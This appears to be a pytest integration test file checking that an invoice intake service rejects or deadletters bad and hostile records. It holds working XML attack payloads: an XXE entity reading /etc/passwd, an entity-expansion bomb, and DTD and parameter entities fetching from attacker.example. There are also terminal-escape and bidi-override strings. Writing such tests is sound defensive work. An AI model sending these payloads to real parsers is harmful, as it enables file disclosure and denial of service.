"""A corpus of bad input: every record ends as a rejection (with reasons) or a deadletter entry —
never accepted, never silently dropped, never blocking the batch."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import AsyncIterator
from typing import Any

import asyncpg
import pytest

from services.intake.handlers import router
from shared.consumer import DEADLETTER_EVENT_TYPE, RawRecord
from shared.envelope import new_envelope
from shared.settings import Settings
from shared.topics import IN_INVOICES, IN_PURCHASE_ORDERS
from testkit.samples.upstream import (
    PAYEE,
    UBL_INVOICE,
    inv_rec,
    invoice,
    po_issued,
    receipt_rec,
    ubl_rec,
)
from tests.support import deliver, emitted, record, scratch_pool

pytestmark = pytest.mark.integration

XXE = """<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
 xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:ID>&xxe;</cbc:ID></Invoice>"""
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol3;</Invoice>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""


def raw(topic: Any, value: bytes, key: str = PAYEE) -> RawRecord:
    return record(topic, "invoice.submitted", {}, key=key, raw_value=value)


def envelope_bytes(event_type: str, data: Any, **overrides: Any) -> bytes:
    env = json.loads(new_envelope(event_type, {}, source="test").model_dump_json())
    env["data"] = data
    env.update(overrides)
    return json.dumps(env).encode()


RECEIPT = {
    "receipt_id": "R-BAD",
    "po_number": "PO-1",
    "kind": "goods_receipt",
    "received_at": "2026-03-01T10:00:00Z",
    "recorded_by": "pm@example.com",
    "lines": [{"receipt_line_id": "RL1", "po_line_id": "L1", "quantity": "2"}],
}


def with_headers(rec: RawRecord, *headers: tuple[str, bytes | None]) -> RawRecord:
    return dataclasses.replace(rec, headers=(*rec.headers, *headers))


def duplicated(rec: RawRecord, where: str, key: str, value: Any) -> bytes:
    """The record's value with `key` written a second time (JSON text, last value wins in most parsers)."""
    text = rec.value.decode()
    anchor = '"data":{' if where == "data" else "{"
    assert anchor in text
    return text.replace(anchor, f"{anchor}{json.dumps(key)}:{json.dumps(value)},", 1).encode()


def hostile_records() -> list[tuple[str, RawRecord, str]]:
    """Kafka keys and headers, and JSON that says two things at once (SPEC §15 "Records")."""

    def good() -> RawRecord:  # a fresh record (own event id and offset) each time
        return inv_rec(invoice("HDR-1", "HDR-1"))

    dup_total = inv_rec(invoice("DUP-1", "DUP-1"))
    dup_type = inv_rec(invoice("DUP-2", "DUP-2"))
    return [
        (
            "traceparent header not UTF-8",
            with_headers(
                good(), ("traceparent", b"00-\xff4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01")
            ),
            "undecodable_header",
        ),
        (
            "tracestate header not UTF-8",
            with_headers(good(), ("tracestate", b"k=\xc3\x28")),
            "undecodable_header",
        ),
        (
            "content-type header not UTF-8",
            with_headers(good(), ("content-type", b"\xfe\xff")),
            "undecodable_header",
        ),
        ("key not UTF-8", dataclasses.replace(good(), key=b"payee-\xff"), "undecodable_key"),
        ("no key", dataclasses.replace(good(), key=None), "key_mismatch"),
        ("empty key", dataclasses.replace(good(), key=b""), "key_mismatch"),
        (
            "invoice under another payee's key",
            inv_rec(invoice("KEY-1", "KEY-1"), key="payee-other"),
            "key_mismatch",
        ),
        ("key with a trailing space", inv_rec(invoice("KEY-2", "KEY-2"), key=PAYEE + " "), "key_mismatch"),
        (
            "receipt under another PO's key",
            receipt_rec("receipt.recorded", RECEIPT, key="PO-2"),
            "key_mismatch",
        ),
        (
            "duplicate key in data (two totals)",
            dataclasses.replace(dup_total, value=duplicated(dup_total, "data", "total_amount", "0.01")),
            "duplicate_json_key",
        ),
        (
            "duplicate key in the envelope (two event types)",
            dataclasses.replace(
                dup_type, value=duplicated(dup_type, "envelope", "event_type", "invoice.paid")
            ),
            "duplicate_json_key",
        ),
        (
            "duplicate key in a line",
            raw(
                IN_INVOICES,
                envelope_bytes("invoice.submitted", invoice("DUP-3", "DUP-3")).replace(
                    b'"quantity": "2"', b'"quantity": "2", "quantity": "2000"'
                ),
            ),
            "duplicate_json_key",
        ),
        (
            "NaN in JSON",
            raw(IN_INVOICES, envelope_bytes("invoice.submitted", {"x": float("nan")})),
            "invalid_envelope",
        ),
    ]


def corpus() -> list[tuple[str, RawRecord, str]]:
    """(name, record, expected outcome: "rejected", or the deadletter reason code)."""
    huge_description = invoice("HUGE-1", "H-1")
    huge_description["lines"][0]["description"] = "x" * (1024 * 1024 + 10)
    missing_lines = invoice("MISS-1", "M-1")
    del missing_lines["lines"]
    del missing_lines["currency"]
    wrong_types = invoice("TYPE-1", "T-1", issue_date=20260301, document_type="receipt", tax_total=True)
    wrong_types["lines"][0]["line_amount"] = 1600.5  # a JSON number with a fraction: never money
    wrong_types["lines"][1]["quantity"] = "1e3"
    return [
        ("not json", raw(IN_INVOICES, b"{not json"), "invalid_envelope"),
        ("empty value", raw(IN_INVOICES, b""), "invalid_envelope"),
        ("json but not an object", raw(IN_INVOICES, b"[1, 2, 3]"), "invalid_envelope"),
        ("invalid utf-8", raw(IN_INVOICES, b"\xff\xfe\x00garbage"), "invalid_envelope"),
        (
            "envelope without event_id",
            raw(IN_INVOICES, envelope_bytes("invoice.submitted", invoice(), event_id=None)),
            "invalid_envelope",
        ),
        (
            "unknown event type",
            raw(IN_INVOICES, envelope_bytes("invoice.teleported", invoice())),
            "unknown_event_type",
        ),
        (
            "event type of another topic",
            raw(IN_INVOICES, envelope_bytes("purchase_order.issued", po_issued())),
            "unknown_event_type",
        ),
        (
            "unsupported schema version",
            raw(IN_INVOICES, envelope_bytes("invoice.submitted", invoice(), schema_version=2)),
            "unsupported_schema_version",
        ),
        (
            "data is not an object",
            raw(IN_INVOICES, envelope_bytes("invoice.submitted", "hello")),
            "invalid_envelope",
        ),
        ("missing fields", inv_rec(missing_lines), "rejected"),
        ("wrong types and fractional JSON money", inv_rec(wrong_types), "rejected"),
        (
            "PO with a number for a string",
            record(IN_PURCHASE_ORDERS, "purchase_order.issued", po_issued(payee_id=42), key="PO-1"),
            "rejected",
        ),
        ("payload over 1 MiB", inv_rec(huge_description), "rejected"),
        (
            "UBL over 1 MiB",
            ubl_rec("UBL-HUGE", UBL_INVOICE.format(number="U-1") + " " * (1024 * 1024)),
            "rejected",
        ),
        ("UBL external entity", ubl_rec("UBL-XXE", XXE), "rejected"),
        ("UBL entity expansion bomb", ubl_rec("UBL-LOL", BILLION_LAUGHS), "rejected"),
        ("UBL external DTD", ubl_rec("UBL-DTD", EXTERNAL_DTD), "rejected"),
        ("UBL parameter entity", ubl_rec("UBL-PE", PARAMETER_ENTITY), "rejected"),
        ("UBL not well-formed", ubl_rec("UBL-BROKEN", "<Invoice><unclosed></Invoice>"), "rejected"),
        ("UBL not an invoice", ubl_rec("UBL-ORDER", "<Order xmlns='urn:x'/>"), "rejected"),
        (
            "UBL empty invoice",
            ubl_rec("UBL-EMPTY", "<Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'/>"),
            "rejected",
        ),
        *hostile_records(),
    ]


def _invoice_with(invoice_id: str, **changes: Any) -> dict[str, Any]:
    return invoice(invoice_id, f"N-{invoice_id}", **changes)


def _line_changed(invoice_id: str, **changes: Any) -> dict[str, Any]:
    data = _invoice_with(invoice_id)
    data["lines"][0].update(changes)
    return data


def _two_lines_total(line_amount: str, total: str) -> dict[str, Any]:
    return {
        "lines": [dict(invoice()["lines"][0], line_amount=line_amount), invoice()["lines"][1]],
        "total_amount": total,
    }


HUGE = "1000000000.01"  # one cent above the default max_amount (1,000,000,000)

# (name, invoice data, the reason code, the field it names): SPEC §15 "Text" and "Amounts".
HOSTILE: list[tuple[str, dict[str, Any], str, str]] = [
    # --- Unicode: identifiers may hold no control, format or whitespace characters ----------
    ("zero-width space in invoice_id", _invoice_with("ZW\u200b1"), "invalid_characters", "invoice_id"),
    ("space in po_number", _invoice_with("SP-1", po_number="PO 1"), "invalid_characters", "po_number"),
    (
        "right-to-left override in payee_id",
        _invoice_with("RLO-1", payee_id="0088:579\u202e1"),
        "invalid_characters",
        "payee_id",
    ),
    ("tab in line_id", _line_changed("TAB-1", line_id="1\t"), "invalid_characters", "lines[0].line_id"),
    (
        "no-break space in legal_entity",
        _invoice_with("NBSP-1", legal_entity="9930:DE\u00a01"),
        "invalid_characters",
        "legal_entity",
    ),
    (
        "NUL in po_line_id",
        _line_changed("NUL-1", po_line_id="L1\x00"),
        "invalid_characters",
        "lines[0].po_line_id",
    ),
    # --- and no other text holds control characters other than tab and newline -------------
    (
        "terminal escape in description",
        _line_changed("ESC-1", description="Dev \x1b[2J day"),
        "invalid_characters",
        "lines[0].description",
    ),
    (
        "NUL in supplier_invoice_number",
        invoice("NULN-1", "INV-\x00-9"),
        "invalid_characters",
        "supplier_invoice_number",
    ),
    (
        "carriage return in charge type",
        _invoice_with("CR-1", charges=[{"type": "freight\r", "amount": "0"}]),
        "invalid_characters",
        "charges[0].type",
    ),
    # --- amounts: what lowers or adjusts the payable amount keeps its meaning --------------
    (
        "negative prepaid_amount",
        _invoice_with("PRE-1", prepaid_amount="-990.00"),
        "invalid_prepaid_amount",
        "prepaid_amount",
    ),
    (
        "prepaid_amount above the total",
        _invoice_with("PRE-2", prepaid_amount="2000.13"),
        "invalid_prepaid_amount",
        "prepaid_amount",
    ),
    (
        "rounding_amount of 990.00",
        _invoice_with("RND-1", rounding_amount="990.00"),
        "invalid_rounding_amount",
        "rounding_amount",
    ),
    (
        "rounding_amount of -1.00",
        _invoice_with("RND-2", rounding_amount="-1.00"),
        "invalid_rounding_amount",
        "rounding_amount",
    ),
    (
        "negative tax_total",
        _invoice_with("TAX-1", tax_total="-400.00", total_amount="1200.12"),
        "negative_tax_total",
        "tax_total",
    ),
    # --- any amount above max_amount ------------------------------------------------------------
    (
        "tax_total above max_amount",
        _invoice_with("MAX-1", tax_total=HUGE),
        "amount_out_of_range",
        "tax_total",
    ),
    (
        "total_amount above max_amount",
        _invoice_with("MAX-2", total_amount=HUGE),
        "amount_out_of_range",
        "total_amount",
    ),
    (
        "prepaid_amount above max_amount",
        _invoice_with("MAX-3", prepaid_amount=HUGE),
        "amount_out_of_range",
        "prepaid_amount",
    ),
    (
        "rounding_amount above max_amount",
        _invoice_with("MAX-4", rounding_amount="-" + HUGE),
        "amount_out_of_range",
        "rounding_amount",
    ),
    (
        "line_amount above max_amount",
        _line_changed("MAX-5", line_amount=HUGE),
        "amount_out_of_range",
        "lines[0].line_amount",
    ),
    (
        "allowance_charge_amount above max_amount",
        _line_changed("MAX-6", allowance_charge_amount=HUGE),
        "amount_out_of_range",
        "lines[0].allowance_charge_amount",
    ),
    (
        "charge above max_amount",
        _invoice_with("MAX-7", charges=[{"type": "freight", "amount": HUGE}]),
        "amount_out_of_range",
        "charges[0].amount",
    ),
    (
        "18-digit unit price",
        _line_changed(
            "MAX-8", quantity="1", unit_price="999999999999999999", line_amount="999999999999999999.00"
        ),
        "amount_out_of_range",
        "lines[0].unit_price",
    ),
]


def hostile_corpus() -> list[tuple[str, RawRecord, str]]:
    return [(name, inv_rec(data), "rejected") for name, data, _, _ in HOSTILE]


CORPUS = corpus() + hostile_corpus()


@pytest.fixture(scope="module")
async def pool() -> AsyncIterator[asyncpg.Pool]:
    async with scratch_pool("intake") as p:
        yield p


@pytest.mark.parametrize(("name", "rec", "outcome"), CORPUS, ids=[c[0] for c in CORPUS])
async def test_each_bad_input_is_rejected_or_deadlettered(
    pool: asyncpg.Pool, name: str, rec: RawRecord, outcome: str
) -> None:
    result = await deliver(pool, router, rec, settings=Settings(service="intake"))
    assert emitted(result, "invoice.accepted") == []
    assert emitted(result, "purchase_order.version_in_force") == []
    if outcome == "rejected":
        assert (result.rejected, result.deadlettered) == (1, 0)
        [rejection] = emitted(result, "document.rejected")
        assert rejection["data"]["reasons"], name
        assert all(r["code"] and r["message"] for r in rejection["data"]["reasons"])
        assert result.outbox[0].key == rec.key_text
    else:
        assert (result.rejected, result.deadlettered) == (0, 1), name
        [dead] = emitted(result, DEADLETTER_EVENT_TYPE)
        assert dead["data"]["origin"]["offset"] == rec.offset
        assert dead["data"]["reason"] == outcome, dead["data"]["error"]


async def test_the_whole_corpus_in_one_batch_loses_nothing_and_blocks_nothing(pool: asyncpg.Pool) -> None:
    good = inv_rec(invoice("GOOD-1", "G-1", po_number="PO-X"))
    records = [rec for _, rec, _ in corpus() + hostile_corpus()] + [good]
    result = await deliver(pool, router, *records, settings=Settings(service="intake"))
    expected_rejected = sum(1 for _, _, outcome in CORPUS if outcome == "rejected")
    assert result.rejected == expected_rejected
    assert result.deadlettered == len(CORPUS) - expected_rejected
    assert result.handled == 1 and len(emitted(result, "invoice.accepted")) == 1
    assert len(emitted(result, "document.rejected")) == expected_rejected


@pytest.mark.parametrize("xml", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
async def test_xml_attacks_are_refused_as_unsafe_never_expanded(pool: asyncpg.Pool, xml: str) -> None:
    result = await deliver(pool, router, ubl_rec("UBL-ATTACK", xml), settings=Settings(service="intake"))
    [rejection] = emitted(result, "document.rejected")
    assert [r["code"] for r in rejection["data"]["reasons"]] == ["unsafe_document"]
    assert "root:" not in json.dumps(rejection)  # nothing from /etc/passwd leaked into the reason


async def test_fractional_json_money_and_oversize_payload_reasons(pool: asyncpg.Pool) -> None:
    fractional = invoice("FRAC-1", "F-1", total_amount=2000.12)
    result = await deliver(pool, router, inv_rec(fractional), settings=Settings(service="intake"))
    [rejection] = emitted(result, "document.rejected")
    assert {(r["code"], r["field"]) for r in rejection["data"]["reasons"]} == {
        ("invalid_field", "total_amount")
    }
    huge = invoice("HUGE-2", "H-2")
    huge["lines"][0]["description"] = "x" * (1024 * 1024 + 1)
    result = await deliver(pool, router, inv_rec(huge), settings=Settings(service="intake"))
    [rejection] = emitted(result, "document.rejected")
    assert [r["code"] for r in rejection["data"]["reasons"]] == ["payload_too_large"]


@pytest.mark.parametrize(("name", "data", "code", "field"), HOSTILE, ids=[h[0] for h in HOSTILE])
async def test_hostile_text_and_amounts_are_rejected_naming_the_field(
    pool: asyncpg.Pool, name: str, data: dict[str, Any], code: str, field: str
) -> None:
    """SPEC §15: each is a rejection with a specific code naming the field — never accepted."""
    result = await deliver(pool, router, inv_rec(data), settings=Settings(service="intake"))
    assert emitted(result, "invoice.accepted") == [], name
    [rejection] = emitted(result, "document.rejected")
    reasons = {(r["code"], r.get("field")) for r in rejection["data"]["reasons"]}
    assert (code, field) in reasons, reasons


async def test_text_is_nfc_normalised_before_it_is_stored_or_published(pool: asyncpg.Pool) -> None:
    decomposed = invoice("NFC-1", "NFC-1")
    decomposed["lines"][0]["description"] = "Cafe\u0301 day"  # e + combining acute
    result = await deliver(pool, router, inv_rec(decomposed), settings=Settings(service="intake"))
    [accepted] = emitted(result, "invoice.accepted")
    assert accepted["data"]["lines"][0]["description"] == "Caf\u00e9 day"


async def test_supplier_invoice_number_may_contain_spaces(pool: asyncpg.Pool) -> None:
    result = await deliver(pool, router, inv_rec(invoice("SPACE-1", "INV 2026 77")))
    assert len(emitted(result, "invoice.accepted")) == 1


async def test_a_ubl_invoice_is_held_to_the_same_text_rules_once_parsed(pool: asyncpg.Pool) -> None:
    """The XML text itself may hold CR LF; the values taken from it are checked like JSON's."""
    document = UBL_INVOICE.format(number="UBL-ZW-1").replace(
        "<cbc:ID>PO-1</cbc:ID>", "<cbc:ID>PO\u200b-1</cbc:ID>"
    )
    result = await deliver(pool, router, ubl_rec("UBL-ZW", document.replace("\n", "\r\n")))
    [rejection] = emitted(result, "document.rejected")
    assert {(r["code"], r.get("field")) for r in rejection["data"]["reasons"]} == {
        ("invalid_characters", "po_number")
    }
    clean = await deliver(
        pool, router, ubl_rec("UBL-CRLF", UBL_INVOICE.format(number="UBL-CRLF-1").replace("\n", "\r\n"))
    )
    assert len(emitted(clean, "invoice.accepted")) == 1


async def test_an_event_id_reused_for_another_invoice_is_deadlettered_not_applied(pool: asyncpg.Pool) -> None:
    """Finding 7: an event_id reused for a different invoice was dropped without a trace."""
    settings = Settings(service="intake")
    first = inv_rec(invoice("REUSED-1", "REUSED-1"), event_id="evt_reused_by_upstream")
    other = inv_rec(invoice("REUSED-2", "REUSED-2"), event_id="evt_reused_by_upstream")
    accepted = await deliver(pool, router, first, settings=settings)
    assert len(emitted(accepted, "invoice.accepted")) == 1
    result = await deliver(pool, router, other, settings=settings)
    assert (result.handled, result.duplicates, result.deadlettered) == (0, 0, 1)
    [dead] = emitted(result)
    assert dead["data"]["reason"] == "event_id_conflict"
    assert "evt_reused_by_upstream" in dead["data"]["error"]


async def test_the_same_event_redelivered_or_reserialised_stays_a_silent_duplicate(
    pool: asyncpg.Pool,
) -> None:
    settings = Settings(service="intake")
    first = inv_rec(invoice("RESENT-1", "RESENT-1"), event_id="evt_resent_by_upstream")
    await deliver(pool, router, first, settings=settings)
    envelope = json.loads(first.value)
    reserialised = json.dumps(envelope, indent=2, sort_keys=True).encode()  # other order and spacing
    for value in (first.value, reserialised):
        again = record(IN_INVOICES, "invoice.submitted", {}, key=first.key_text, raw_value=value)
        result = await deliver(pool, router, again, settings=settings)
        assert (result.duplicates, result.deadlettered, result.outbox) == (1, 0, [])
